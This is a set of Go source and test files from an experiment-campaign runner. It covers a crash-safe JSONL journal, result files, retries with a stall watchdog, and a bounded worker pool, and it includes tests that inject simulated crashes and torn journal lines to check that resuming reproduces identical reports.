func LoadResult(dir, id string) (*Result, error) { return loadResultFS(fsio.OS, dir, id) }

func loadResultFS(fsys fsio.FS, dir, id string) (*Result, error) {
	b, err := fsys.ReadFile(resultFile(dir, id))
	if err != nil {
		return nil, fmt.Errorf("campaign: result for %s: %w", id, err)
	}
	var r Result
	if err := json.Unmarshal(b, &r); err != nil {
		return nil, fmt.Errorf("campaign: parsing result for %s: %w", id, err)
	}
	if r.ID != id {
		return nil, fmt.Errorf("campaign: result file for %s claims id %s", id, r.ID)
	}
	return &r, nil
}

// State is a campaign directory's full picture: the plan, the journal
// verdicts, and every committed result — everything status and report
// rendering need.
type State struct {
	Spec        *Spec
	Experiments []Experiment
	Entries     map[string]Entry
	Results     map[string]*Result
}

// Load reads a campaign directory. Results are loaded only for
// journaled-done experiments; a done entry whose result file is
// missing or unreadable is an integrity error (the commit discipline
// writes results before journal lines).
func Load(dir string) (*State, error) {
	spec, err := LoadPlan(dir)
	if err != nil {
		return nil, err
	}
	exps, err := spec.Plan()
	if err != nil {
		return nil, err
	}
	entries, _, err := ReplayJournal(dir)
	if err != nil {
		return nil, err
	}
	st := &State{Spec: spec, Experiments: exps, Entries: entries, Results: map[string]*Result{}}
	for _, ex := range exps {
		if e, ok := entries[ex.ID]; ok && e.Status == StatusDone {
			res, err := LoadResult(dir, ex.ID)
			if err != nil {
				return nil, fmt.Errorf("campaign: journal says %s is done but its result is unusable: %w", ex.ID, err)
			}
			st.Results[ex.ID] = res
		}
	}
	return st, nil
}

// Done counts journaled-done experiments in the plan.
func (s *State) Done() int { return len(s.Results) }

// Complete reports whether every planned experiment is done.
func (s *State) Complete() bool { return s.Done() == len(s.Experiments) }
