package campaign

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"repro/internal/fsio"
)

// Entry is one journal line. The journal is append-only JSONL; the
// last entry for an ID wins on replay, so a failed experiment that
// later succeeds is simply journaled again.
//
// Only Status feeds the resume decision and only indirectly the report
// (done ⇒ load the result file). Attempts, errors, stacks, and wall
// times are bookkeeping for humans and tests — they never reach the
// report, which is what keeps resumed reports byte-identical.
type Entry struct {
	ID     string `json:"id"`
	Status Status `json:"status"`
	// Attempt is which attempt produced this entry (1-based).
	Attempt int `json:"attempt,omitempty"`
	// Error is the failure/timeout/panic message.
	Error string `json:"error,omitempty"`
	// Stack is the recovered goroutine stack of a panicked attempt.
	Stack string `json:"stack,omitempty"`
	// ElapsedMs is the attempt's wall-clock duration (diagnostics only).
	ElapsedMs int64 `json:"elapsed_ms,omitempty"`
}

// Status classifies a journal entry.
type Status string

const (
	// StatusDone commits an experiment: its result file is on disk.
	StatusDone Status = "done"
	// StatusFailed records an attempt that returned an error.
	StatusFailed Status = "failed"
	// StatusPanicked records an attempt that panicked (stack attached).
	StatusPanicked Status = "panicked"
	// StatusTimeout records an attempt the stall watchdog cancelled.
	StatusTimeout Status = "timeout"
)

// jsonMarshalLine renders one journal line: compact JSON + newline.
func jsonMarshalLine(e Entry) ([]byte, error) {
	b, err := json.Marshal(e)
	if err != nil {
		return nil, fmt.Errorf("campaign: encoding journal entry: %w", err)
	}
	return append(b, '\n'), nil
}

// journalFile is the journal's location inside a campaign directory.
func journalFile(dir string) string { return filepath.Join(dir, "journal.jsonl") }

// resultsDir holds one JSON result file per completed experiment.
func resultsDir(dir string) string { return filepath.Join(dir, "results") }

// resultFile maps an experiment ID to its result path. IDs contain
// slashes; flatten them so every result sits in one directory.
func resultFile(dir, id string) string {
	return filepath.Join(resultsDir(dir), strings.ReplaceAll(id, "/", "_")+".json")
}

// ReplayJournal reads the journal (absent ⇒ empty) and returns the
// last entry per experiment ID plus the total line count. A torn final
// line — the signature of a kill mid-append — is tolerated and
// ignored; a torn line anywhere else is corruption and errors.
func ReplayJournal(dir string) (map[string]Entry, int, error) {
	last, lines, _, err := replayJournal(fsio.OS, dir)
	return last, lines, err
}

// replayJournal additionally returns the byte length of the journal's
// valid prefix. When the file is longer than that prefix, the tail is
// a torn final append: before reopening the journal for append the
// runner truncates to the valid length, otherwise the next line would
// concatenate onto the torn fragment and corrupt the journal for the
// replay after this one.
func replayJournal(fsys fsio.FS, dir string) (map[string]Entry, int, int64, error) {
	data, err := fsys.ReadFile(journalFile(dir))
	if os.IsNotExist(err) {
		return map[string]Entry{}, 0, 0, nil
	}
	if err != nil {
		return nil, 0, 0, fmt.Errorf("campaign: %w", err)
	}

	last := map[string]Entry{}
	lines, offset := 0, 0
	valid := int64(0)
	for offset < len(data) {
		lineEnd := len(data)
		final := true
		raw := data[offset:]
		if i := bytes.IndexByte(raw, '\n'); i >= 0 {
			raw = raw[:i]
			lineEnd = offset + i + 1
			final = false
		}
		if len(bytes.TrimSpace(raw)) == 0 {
			offset, valid = lineEnd, int64(lineEnd)
			continue
		}
		var e Entry
		if err := json.Unmarshal(raw, &e); err != nil || e.ID == "" {
			if final {
				// The torn last append; ignore it.
				break
			}
			return nil, 0, 0, fmt.Errorf("campaign: journal %s: torn line %d is not final — journal corrupt", journalFile(dir), lines+1)
		}
		last[e.ID] = e
		lines++
		offset, valid = lineEnd, int64(lineEnd)
	}
	return last, lines, valid, nil
}
