package campaign_test

// Tests for the journal under the daemon's usage pattern: several
// worker goroutines committing concurrently, a hard kill landing while
// appends are racing (one mid-write, one pending on the journal lock),
// and resume reproducing the uninterrupted report byte for byte. These
// pin the contract idsevald's ack path relies on: the journal line is
// the commit point even when the line under the pen is torn and a
// second writer was queued behind it.

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"repro/internal/campaign"
)

func TestConcurrentAppendCrashTornTailResumeByteIdentical(t *testing.T) {
	spec := syntheticSpec(t, 6) // 12 experiments across 2 products

	clean := t.TempDir()
	if err := campaign.SavePlan(clean, spec); err != nil {
		t.Fatal(err)
	}
	r := newRunner(clean, spec)
	r.Workers = 4
	r.SetExecOverride(syntheticExec)
	if _, err := r.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	want := renderReport(t, clean)

	crashed := t.TempDir()
	if err := campaign.SavePlan(crashed, spec); err != nil {
		t.Fatal(err)
	}
	rc := newRunner(crashed, spec)
	// Four workers race the journal mutex; the crash fires inside the
	// 5th append while later writers are queued behind the lock — the
	// daemon's concurrent-append shape. Queued writers observe the
	// stopped runner and their commits are dropped (they re-run on
	// resume); nothing may corrupt the already-committed prefix.
	rc.Workers = 4
	rc.SetCrashAfter(5)
	rc.SetExecOverride(syntheticExec)
	if _, err := rc.Run(context.Background()); !errors.Is(err, campaign.ErrCrashInjected) {
		t.Fatalf("crash run error = %v, want ErrCrashInjected", err)
	}

	// The kill also tears the final line mid-append while a second
	// writer was pending: append a half-written entry with no newline.
	jf, err := os.OpenFile(filepath.Join(crashed, "journal.jsonl"), os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := jf.WriteString(`{"id":"sweep/` + spec.Products[1] + `/p0`); err != nil {
		t.Fatal(err)
	}
	jf.Close()

	// Replay must tolerate exactly that torn tail.
	done, lines, err := campaign.ReplayJournal(crashed)
	if err != nil {
		t.Fatalf("replay with torn tail: %v", err)
	}
	if lines != 5 || len(done) != 5 {
		t.Fatalf("replay saw %d lines / %d ids, want 5/5", lines, len(done))
	}

	rr := newRunner(crashed, spec)
	rr.Workers = 4
	rr.SetExecOverride(syntheticExec)
	out, err := rr.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out.Skipped != 5 || out.Completed != 7 {
		t.Fatalf("resume = %+v, want 5 skipped / 7 completed", out)
	}
	if got := renderReport(t, crashed); got != want {
		t.Fatalf("resumed report differs from uninterrupted run:\n--- want ---\n%s\n--- got ---\n%s", want, got)
	}

	// A second resume over the repaired journal sees a full campaign.
	rfinal := newRunner(crashed, spec)
	rfinal.SetExecOverride(func(ctx context.Context, ex campaign.Experiment) (*campaign.Result, error) {
		t.Errorf("complete campaign re-ran %s", ex.ID)
		return syntheticExec(ctx, ex)
	})
	out2, err := rfinal.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out2.Skipped != 12 {
		t.Fatalf("final resume skipped %d, want 12", out2.Skipped)
	}
}

func TestOnCommitFiresAfterDurableCommit(t *testing.T) {
	spec := syntheticSpec(t, 4) // 8 experiments
	dir := t.TempDir()
	if err := campaign.SavePlan(dir, spec); err != nil {
		t.Fatal(err)
	}
	r := newRunner(dir, spec)
	r.Workers = 4
	r.SetExecOverride(syntheticExec)

	var mu sync.Mutex
	committed := map[string]bool{}
	r.OnCommit = func(ex campaign.Experiment, res *campaign.Result) {
		// At callback time the commit must already be durable: result
		// file readable and its journal line on disk.
		if _, err := campaign.LoadResult(dir, ex.ID); err != nil {
			t.Errorf("OnCommit(%s): result not yet on disk: %v", ex.ID, err)
		}
		data, err := os.ReadFile(filepath.Join(dir, "journal.jsonl"))
		if err != nil || !bytes.Contains(data, []byte(`"id":"`+ex.ID+`"`)) {
			t.Errorf("OnCommit(%s): journal line not yet durable (err %v)", ex.ID, err)
		}
		if res == nil || res.ID != ex.ID {
			t.Errorf("OnCommit(%s): result mismatch %+v", ex.ID, res)
		}
		mu.Lock()
		committed[ex.ID] = true
		mu.Unlock()
	}
	out, err := r.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if out.Completed != 8 || len(committed) != 8 {
		t.Fatalf("completed %d, OnCommit saw %d, want 8/8", out.Completed, len(committed))
	}

	// Resume fires no hooks: nothing new commits.
	r2 := newRunner(dir, spec)
	r2.OnCommit = func(ex campaign.Experiment, _ *campaign.Result) {
		t.Errorf("OnCommit fired on resume for %s", ex.ID)
	}
	r2.SetExecOverride(syntheticExec)
	if _, err := r2.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
}
