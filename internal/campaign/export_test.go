package campaign

import "context"

// Test-only accessors for the runner's crash-injection and execution
// hooks, shared with the external campaign_test package.

// SetCrashAfter makes the runner simulate a hard crash (no drain, no
// further journaling) after n journal appends.
func (r *Runner) SetCrashAfter(n int) { r.crashAfter = n }

// SetExecOverride substitutes experiment execution.
func (r *Runner) SetExecOverride(f func(ctx context.Context, ex Experiment) (*Result, error)) {
	r.Exec = f
}
