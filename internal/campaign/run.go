package campaign

import (
	"context"
	"errors"
	"fmt"
	"io"
	"runtime/debug"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/fsio"
	"repro/internal/obs"
	"repro/internal/par"
)

// Runner executes a campaign in a directory, resuming from whatever
// the journal already committed.
type Runner struct {
	Dir  string
	Spec *Spec
	// Workers bounds the experiment-level pool (0 = all cores). Each
	// experiment's own internal fan-out is forced serial, so the
	// campaign is the only source of parallelism.
	Workers int
	// MaxAttempts bounds retries per experiment (default 2: one retry).
	MaxAttempts int
	// Backoff sleeps before each retry, doubling per attempt (default
	// 100ms; tests shrink it).
	Backoff time.Duration
	// StallTimeout cancels an attempt whose simulation stops making
	// progress — no heartbeat (kernel interrupt check) for this long
	// (default 2m; 0 keeps the default, negative disables).
	StallTimeout time.Duration
	// Grace is how long a cancelled attempt gets to drain before its
	// goroutine is abandoned (default 5s).
	Grace time.Duration
	// MaxNew, when > 0, stops the campaign cleanly after that many
	// newly committed experiments — a deterministic interruption for
	// smoke tests and incremental runs.
	MaxNew int
	// Obs, when set, receives campaign instrumentation: experiments
	// completed/failed/retried/skipped counters and the checkpoint
	// write-latency histogram.
	Obs *obs.Registry
	// Log, when set, receives one progress line per experiment verdict
	// (stderr in the CLI). Never part of the report.
	Log io.Writer
	// OnCommit, when set, is called after an experiment's result file
	// and journal line are both durably on disk — the commit point. The
	// daemon streams incremental results to subscribers from here.
	// Called from worker goroutines; must be safe for concurrent use.
	// It observes only: the result is already committed, and the report
	// stays byte-identical with or without the hook.
	OnCommit func(ex Experiment, res *Result)
	// OnEvalSnapshot, when set, arms per-product telemetry on KindEval
	// experiments and receives each product's final registry snapshot —
	// the daemon's live /metrics feed for matrix evaluations. Must be
	// safe for concurrent use.
	OnEvalSnapshot func(product string, snap *obs.Snapshot)
	// FS is the storage seam every durability-bearing write goes
	// through (journal appends, result files, the torn-tail truncate).
	// nil means the real filesystem; cmd/crashtorture substitutes a
	// fault-injecting one.
	FS fsio.FS
	// Exec, when set, substitutes experiment execution — the seam the
	// torture matrix and tests use to make experiments instant and
	// deterministic without touching the commit discipline.
	Exec func(ctx context.Context, ex Experiment) (*Result, error)

	// crashAfter simulates a hard crash (no drain, no further
	// journaling) after N journal appends — the resume tests' kill
	// switch.
	crashAfter int

	appended atomic.Int64
	stopped  atomic.Bool
	journal  *fsio.AppendFile
	mu       sync.Mutex // serializes journal appends

	// Live progress, served by the -listen /progress endpoint while Run
	// executes. Guarded by its own mutex so scrapes never contend with
	// journal appends.
	progMu    sync.Mutex
	prog      Progress
	progStart time.Time
	running   map[string]struct{}
}

// Progress is a point-in-time view of a running campaign for the live
// observability endpoint. Counters move only after their journal entry
// is durably appended, so a scrape always agrees with what a crash-
// resume would reconstruct from the journal.
type Progress struct {
	Name      string `json:"name"`
	Planned   int    `json:"planned"`
	Skipped   int    `json:"skipped"`
	Completed int    `json:"completed"`
	Failed    int    `json:"failed"`
	Retried   int    `json:"retried"`
	// Running lists in-flight experiment IDs, sorted.
	Running []string `json:"running"`
	// Done is set once Run has returned.
	Done      bool  `json:"done"`
	ElapsedMs int64 `json:"elapsed_ms"`
}

// Progress returns the runner's current progress. Safe to call from any
// goroutine at any time, including before Run starts (zero value) and
// after it returns (Done set).
func (r *Runner) Progress() Progress {
	r.progMu.Lock()
	defer r.progMu.Unlock()
	p := r.prog
	p.Running = make([]string, 0, len(r.running))
	for id := range r.running {
		p.Running = append(p.Running, id)
	}
	sort.Strings(p.Running)
	if !r.progStart.IsZero() {
		p.ElapsedMs = time.Since(r.progStart).Milliseconds()
	}
	return p
}

// track mutates the progress snapshot under its lock.
func (r *Runner) track(fn func(p *Progress)) {
	r.progMu.Lock()
	fn(&r.prog)
	r.progMu.Unlock()
}

func (r *Runner) setRunning(id string, on bool) {
	r.progMu.Lock()
	if r.running == nil {
		r.running = map[string]struct{}{}
	}
	if on {
		r.running[id] = struct{}{}
	} else {
		delete(r.running, id)
	}
	r.progMu.Unlock()
}

// flight is the runner's recorder, nil (a no-op) unless the registry
// armed one.
func (r *Runner) flight() *obs.FlightRecorder {
	if r.Obs == nil {
		return nil
	}
	return r.Obs.Flight()
}

// Outcome summarizes one Run call.
type Outcome struct {
	Planned int
	// Skipped experiments were already journaled done before this run.
	Skipped int
	// Completed experiments were committed by this run.
	Completed int
	// Failed experiments exhausted their attempts this run.
	Failed []string
	// Retries counts extra attempts consumed across all experiments.
	Retries int
	// Stopped is set when the run ended early: cancellation, MaxNew
	// reached, or an injected crash.
	Stopped bool
}

// ErrCrashInjected is returned when the test-only crash hook fires.
var ErrCrashInjected = errors.New("campaign: injected crash")

// errStalled marks a watchdog cancellation (vs. parent cancellation).
var errStalled = errors.New("campaign: stall watchdog expired")

func (r *Runner) applyDefaults() {
	if r.MaxAttempts <= 0 {
		r.MaxAttempts = 2
	}
	if r.Backoff <= 0 {
		r.Backoff = 100 * time.Millisecond
	}
	if r.StallTimeout == 0 {
		r.StallTimeout = 2 * time.Minute
	}
	if r.Grace <= 0 {
		r.Grace = 5 * time.Second
	}
}

func (r *Runner) logf(format string, args ...any) {
	if r.Log != nil {
		fmt.Fprintf(r.Log, format+"\n", args...)
	}
}

// Run executes every experiment the journal has not committed, honoring
// ctx for graceful shutdown: on cancellation, in-flight simulations
// halt at the kernel's interrupt stride, their completions are NOT
// journaled (they re-run on resume), and the journal is left at the
// last fully committed experiment. Failed experiments do not cancel
// their siblings; Run reports them in the outcome and error.
func (r *Runner) Run(ctx context.Context) (*Outcome, error) {
	r.applyDefaults()
	if r.Spec == nil {
		spec, err := LoadPlan(r.Dir)
		if err != nil {
			return nil, err
		}
		r.Spec = spec
	}
	exps, err := r.Spec.Plan()
	if err != nil {
		return nil, err
	}
	fsys := fsio.DefaultFS(r.FS)
	if err := fsys.MkdirAll(resultsDir(r.Dir), 0o755); err != nil {
		return nil, fmt.Errorf("campaign: %w", err)
	}
	// A crash mid-commit leaves the atomic write's temp file behind;
	// it never threatens a final path, but across many crashes the
	// strays add up. Resume owns these directories — sweep them.
	if n := fsio.CleanStrayTemps(fsys, r.Dir) + fsio.CleanStrayTemps(fsys, resultsDir(r.Dir)); n > 0 {
		r.logf("campaign: removed %d stray temp file(s) left by an earlier crash", n)
	}
	done, _, valid, err := replayJournal(fsys, r.Dir)
	if err != nil {
		return nil, err
	}
	// A torn final append (kill -9 mid-write) leaves a fragment with no
	// trailing newline; truncate it so the next append starts a fresh
	// line instead of concatenating into corruption.
	if fi, serr := fsys.Stat(journalFile(r.Dir)); serr == nil && fi.Size() > valid {
		if terr := fsys.Truncate(journalFile(r.Dir), valid); terr != nil {
			return nil, fmt.Errorf("campaign: truncating torn journal tail: %w", terr)
		}
	}

	out := &Outcome{Planned: len(exps)}
	var pending []Experiment
	for _, ex := range exps {
		if e, ok := done[ex.ID]; ok && e.Status == StatusDone {
			// Trust but verify: "done" promises a usable result file. A
			// lying fsync (journal line survived the crash, result bytes
			// did not) breaks that promise, and skipping here would wedge
			// the campaign forever — Load() refuses the directory while
			// resume keeps insisting there is nothing left to run. Re-run
			// instead; the rewrite atomically replaces the bad file.
			if _, lerr := loadResultFS(fsys, r.Dir, ex.ID); lerr != nil {
				r.count("campaign.result_reruns", 1)
				r.logf("  redo  %-40s journaled done but result unusable: %v", ex.ID, lerr)
				pending = append(pending, ex)
				continue
			}
			out.Skipped++
			continue
		}
		pending = append(pending, ex)
	}
	r.count("campaign.skipped", out.Skipped)
	r.progMu.Lock()
	r.prog = Progress{Name: r.Spec.Name, Planned: out.Planned, Skipped: out.Skipped}
	r.progStart = time.Now()
	r.running = map[string]struct{}{}
	r.progMu.Unlock()
	defer r.track(func(p *Progress) { p.Done = true })
	r.logf("campaign %s: %d experiments planned, %d already done, %d to run",
		r.Spec.Name, out.Planned, out.Skipped, len(pending))
	if len(pending) == 0 {
		return out, nil
	}

	jf, err := fsio.OpenAppendFS(fsys, journalFile(r.Dir))
	if err != nil {
		return nil, err
	}
	r.journal = jf
	defer jf.Close()

	// stop cancels the remaining experiments without marking the parent
	// ctx — used by MaxNew and the crash hook.
	runCtx, stop := context.WithCancelCause(ctx)
	defer stop(nil)

	var mu sync.Mutex
	errs := par.ForEachAll(runCtx, len(pending), r.Workers, func(ctx context.Context, i int) error {
		verdict, retries, err := r.runOne(ctx, pending[i])
		mu.Lock()
		defer mu.Unlock()
		out.Retries += retries
		switch {
		case err == nil && verdict:
			out.Completed++
			if r.MaxNew > 0 && out.Completed >= r.MaxNew {
				stop(context.Canceled)
			}
		case errors.Is(err, ErrCrashInjected):
			stop(context.Canceled)
		case err != nil && !isCancel(err):
			out.Failed = append(out.Failed, pending[i].ID)
		}
		return err
	})

	if r.stopped.Load() {
		out.Stopped = true
		return out, ErrCrashInjected
	}
	var firstCancel error
	realFailures := 0
	for _, e := range errs {
		if e == nil || errors.Is(e, ErrCrashInjected) {
			continue
		}
		if isCancel(e) {
			if firstCancel == nil {
				firstCancel = e
			}
			continue
		}
		realFailures++
	}
	if ctx.Err() != nil {
		out.Stopped = true
		return out, ctx.Err()
	}
	if firstCancel != nil && r.MaxNew > 0 {
		// MaxNew tripped the internal stop; a clean, expected outcome.
		out.Stopped = true
		return out, nil
	}
	if realFailures > 0 {
		return out, fmt.Errorf("campaign: %d of %d experiments failed permanently (see journal)", realFailures, len(pending))
	}
	if firstCancel != nil {
		out.Stopped = true
		return out, firstCancel
	}
	return out, nil
}

// runOne drives one experiment through its attempts. It returns
// (committed, retriesUsed, err); a cancellation error means the
// experiment neither succeeded nor failed — it re-runs on resume.
func (r *Runner) runOne(ctx context.Context, ex Experiment) (bool, int, error) {
	retries := 0
	backoff := r.Backoff
	r.setRunning(ex.ID, true)
	defer r.setRunning(ex.ID, false)
	for attempt := 1; ; attempt++ {
		start := time.Now()
		r.flight().Record(obs.FlightExperimentStart, -1, -1, int64(attempt), ex.ID)
		res, err := r.attempt(ctx, ex)
		elapsed := time.Since(start)

		if err == nil {
			if cerr := r.commit(ex, res, attempt, elapsed); cerr != nil {
				return false, retries, cerr
			}
			r.count("campaign.completed", 1)
			r.track(func(p *Progress) { p.Completed++ })
			if r.OnCommit != nil {
				r.OnCommit(ex, res)
			}
			r.flight().RecordSpan(obs.FlightExperimentDone, -1, start, elapsed, -1, int64(attempt), ex.ID)
			r.logf("  done  %-40s (attempt %d, %v)", ex.ID, attempt, elapsed.Round(time.Millisecond))
			return true, retries, nil
		}

		// Parent cancellation: stop quietly, do not journal — the
		// experiment is simply unfinished.
		if isCancel(err) && !errors.Is(err, errStalled) {
			return false, retries, err
		}

		entry := Entry{ID: ex.ID, Status: StatusFailed, Attempt: attempt,
			Error: err.Error(), ElapsedMs: elapsed.Milliseconds()}
		var pe *PanicError
		switch {
		case errors.As(err, &pe):
			entry.Status = StatusPanicked
			entry.Stack = pe.Stack
			r.flight().Record(obs.FlightExperimentPanic, -1, -1, int64(attempt), ex.ID)
		case errors.Is(err, errStalled):
			entry.Status = StatusTimeout
		}
		if jerr := r.append(entry); jerr != nil {
			return false, retries, jerr
		}
		r.logf("  %s %-40s attempt %d: %v", entry.Status, ex.ID, attempt, err)

		if attempt >= r.MaxAttempts {
			r.count("campaign.failed", 1)
			r.track(func(p *Progress) { p.Failed++ })
			return false, retries, fmt.Errorf("campaign: %s failed after %d attempts: %w", ex.ID, attempt, err)
		}
		retries++
		r.count("campaign.retried", 1)
		r.track(func(p *Progress) { p.Retried++ })
		r.flight().Record(obs.FlightExperimentRetry, -1, -1, int64(attempt), ex.ID)
		select {
		case <-ctx.Done():
			return false, retries, ctx.Err()
		case <-time.After(backoff):
		}
		backoff *= 2
	}
}

// PanicError wraps a recovered experiment panic; the stack goes into
// the journal so a crash-looping experiment is diagnosable after the
// fact.
type PanicError struct {
	Value string
	Stack string
}

func (p *PanicError) Error() string { return "panic: " + p.Value }

// attempt executes the experiment once under panic isolation and the
// stall watchdog. The experiment body runs on its own goroutine writing
// to a buffered channel: if a wedged simulation ignores cancellation,
// the goroutine is abandoned after Grace (it can only write to the
// buffered channel, never to shared state) instead of hanging the
// campaign.
func (r *Runner) attempt(parent context.Context, ex Experiment) (*Result, error) {
	ctx, cancel := context.WithCancelCause(parent)
	defer cancel(nil)

	// The watchdog distinguishes slow-but-progressing from wedged: the
	// simulation kernel beats on every interrupt check, so only a sim
	// that stopped executing events (or a non-sim hang) trips it.
	var lastBeat atomic.Int64
	lastBeat.Store(time.Now().UnixNano())
	if r.StallTimeout > 0 {
		ctx = par.WithHeartbeat(ctx, func() {
			lastBeat.Store(time.Now().UnixNano())
		})
		wdDone := make(chan struct{})
		defer close(wdDone)
		go func() {
			tick := time.NewTicker(r.StallTimeout / 4)
			defer tick.Stop()
			for {
				select {
				case <-wdDone:
					return
				case <-ctx.Done():
					return
				case <-tick.C:
					idle := time.Since(time.Unix(0, lastBeat.Load()))
					if idle > r.StallTimeout {
						cancel(fmt.Errorf("%w: no progress for %v in %s", errStalled, idle.Round(time.Millisecond), ex.ID))
						return
					}
				}
			}
		}()
	}

	type outcome struct {
		res *Result
		err error
	}
	ch := make(chan outcome, 1)
	go func() {
		defer func() {
			if p := recover(); p != nil {
				ch <- outcome{err: &PanicError{Value: fmt.Sprint(p), Stack: string(debug.Stack())}}
			}
		}()
		res, err := r.execute(ctx, ex)
		ch <- outcome{res, err}
	}()

	finish := func(o outcome) (*Result, error) {
		if o.err != nil && context.Cause(ctx) != nil && errors.Is(context.Cause(ctx), errStalled) {
			// Attribute the cancellation to the watchdog, not the
			// generic context error the sim surfaced.
			return nil, context.Cause(ctx)
		}
		return o.res, o.err
	}
	select {
	case o := <-ch:
		return finish(o)
	case <-ctx.Done():
		select {
		case o := <-ch:
			return finish(o)
		case <-time.After(r.Grace):
			cause := context.Cause(ctx)
			return nil, fmt.Errorf("campaign: %s abandoned %v after cancellation: %w",
				ex.ID, r.Grace, cause)
		}
	}
}

// commit persists an experiment: result file first (atomic), then the
// journal line (durable append). A crash between the two leaves an
// orphaned result file and no journal line — the experiment re-runs on
// resume and atomically overwrites the orphan with identical bytes.
func (r *Runner) commit(ex Experiment, res *Result, attempt int, elapsed time.Duration) error {
	b, err := res.encode()
	if err != nil {
		return err
	}
	start := time.Now()
	err = fsio.WriteAtomicFS(fsio.DefaultFS(r.FS), resultFile(r.Dir, ex.ID), func(w io.Writer) error {
		_, werr := w.Write(b)
		return werr
	})
	if err != nil {
		return err
	}
	if jerr := r.append(Entry{ID: ex.ID, Status: StatusDone, Attempt: attempt,
		ElapsedMs: elapsed.Milliseconds()}); jerr != nil {
		return jerr
	}
	if r.Obs != nil {
		r.Obs.Histogram("campaign.checkpoint_write_ns", obs.ClockWall).ObserveDuration(time.Since(start))
	}
	return nil
}

// append serializes and durably appends one journal entry, honoring
// the injected-crash hook.
func (r *Runner) append(e Entry) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.stopped.Load() {
		return ErrCrashInjected
	}
	b, err := jsonMarshalLine(e)
	if err != nil {
		return err
	}
	if err := r.journal.Append(b); err != nil {
		return err
	}
	if n := r.appended.Add(1); r.crashAfter > 0 && int(n) >= r.crashAfter {
		r.stopped.Store(true)
		return ErrCrashInjected
	}
	return nil
}

func (r *Runner) count(name string, n int) {
	if r.Obs != nil && n > 0 {
		r.Obs.Counter(name).Add(uint64(n))
	}
}

func isCancel(err error) bool {
	return errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded)
}
