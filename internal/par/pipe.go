// Pipe is the package's single-producer prefetch stage: one background
// worker runs a produce function ahead of a consumer, keeping up to
// depth results buffered. It is the decode half of producer/consumer
// pipelines (the trace reader decodes chunk N+1 on a Pipe worker while
// the simulation replays chunk N), sharing package par's discipline:
// bounded buffering, a single worker so production order is the call
// order, and a sticky terminal error.
package par

import (
	"io"
	"sync"
)

// pipeResult pairs one produced value with its error.
type pipeResult[T any] struct {
	v   T
	err error
}

// Pipe runs produce on one background goroutine, buffering up to depth
// results ahead of Next. The first error produce returns (io.EOF
// included) is terminal: it is delivered in order after the values that
// preceded it, the worker exits, and every later Next repeats it.
type Pipe[T any] struct {
	ch   chan pipeResult[T]
	stop chan struct{}
	once sync.Once
	// fin is the terminal error to repeat once ch drains.
	fin error
}

// NewPipe starts the worker. depth < 1 is treated as 1.
func NewPipe[T any](depth int, produce func() (T, error)) *Pipe[T] {
	if depth < 1 {
		depth = 1
	}
	p := &Pipe[T]{
		ch:   make(chan pipeResult[T], depth),
		stop: make(chan struct{}),
	}
	go func() {
		defer close(p.ch)
		for {
			v, err := produce()
			select {
			case p.ch <- pipeResult[T]{v: v, err: err}:
			case <-p.stop:
				return
			}
			if err != nil {
				return
			}
		}
	}()
	return p
}

// Next returns the next produced value in production order. After the
// producer's terminal error has been delivered, Next keeps returning it
// (io.EOF for a Stopped pipe that ended without error).
func (p *Pipe[T]) Next() (T, error) {
	r, ok := <-p.ch
	if !ok {
		var zero T
		if p.fin == nil {
			p.fin = io.EOF
		}
		return zero, p.fin
	}
	if r.err != nil {
		p.fin = r.err
	}
	return r.v, r.err
}

// Stop terminates the worker without draining. Buffered results are
// discarded; a produce call already in flight runs to completion. Stop
// is idempotent and safe to call concurrently with Next.
func (p *Pipe[T]) Stop() {
	p.once.Do(func() { close(p.stop) })
}
