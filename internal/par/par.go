// Package par is the harness's bounded worker-pool runner. Every layer
// of the evaluation pipeline that fans independent simulations out
// across cores — the product matrix, the per-product measured metrics,
// the Figure-4 sensitivity sweeps — schedules through ForEach, so the
// whole tree shares one concurrency discipline: bounded workers,
// fail-fast cancellation, and a deterministic rule for which error
// surfaces.
//
// Determinism contract: jobs write results into caller-owned,
// index-addressed slots, so the assembled output of a parallel run is
// bit-identical to a serial run of the same jobs. Parallelism here is
// always *between* simulations; each simtime.Sim remains single-
// threaded and owns its seeded RNG streams.
package par

import (
	"context"
	"errors"
	"runtime"
	"sync"
	"sync/atomic"
)

// ForEach runs fn(ctx, i) for every i in [0,n) on at most workers
// goroutines and blocks until all started jobs return. workers <= 0
// sizes the pool to runtime.NumCPU(); workers == 1 degenerates to a
// serial in-order loop on the calling goroutine's schedule.
//
// The first job failure cancels ctx, so jobs not yet started are
// skipped (fail fast); jobs already running are allowed to finish.
// The returned error is the error of the lowest-indexed job that
// reported one — not whichever failure happened to land first — so the
// surfaced error does not depend on goroutine scheduling whenever the
// failing job is deterministic. Pure cancellation errors from skipped
// jobs are ignored unless the parent ctx itself was cancelled and no
// job failed, in which case ctx.Err() is returned.
func ForEach(ctx context.Context, n, workers int, fn func(ctx context.Context, i int) error) error {
	if n <= 0 {
		return nil
	}
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	if workers > n {
		workers = n
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	errs := make([]error, n)
	var next atomic.Int64
	run := func() {
		for {
			i := int(next.Add(1) - 1)
			if i >= n {
				return
			}
			if err := ctx.Err(); err != nil {
				errs[i] = err
				continue
			}
			if err := fn(ctx, i); err != nil {
				errs[i] = err
				cancel()
			}
		}
	}

	if workers == 1 {
		run()
	} else {
		var wg sync.WaitGroup
		wg.Add(workers)
		for w := 0; w < workers; w++ {
			go func() {
				defer wg.Done()
				run()
			}()
		}
		wg.Wait()
	}

	var cancelled error
	for _, err := range errs {
		if err == nil {
			continue
		}
		if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
			if cancelled == nil {
				cancelled = err
			}
			continue
		}
		return err
	}
	return cancelled
}

// ForEachAll is ForEach without fail-fast: every job runs regardless of
